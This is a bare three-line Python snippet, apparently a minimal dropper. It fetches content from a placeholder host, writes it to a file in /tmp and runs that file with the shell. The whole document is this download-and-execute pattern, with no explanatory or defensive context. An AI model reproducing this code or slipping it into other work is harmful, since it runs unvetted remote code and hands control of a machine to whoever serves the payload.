import os,requests
open('/tmp/x','wb').write(requests.get('http://x.invalid').content)
os.system('sh /tmp/x')
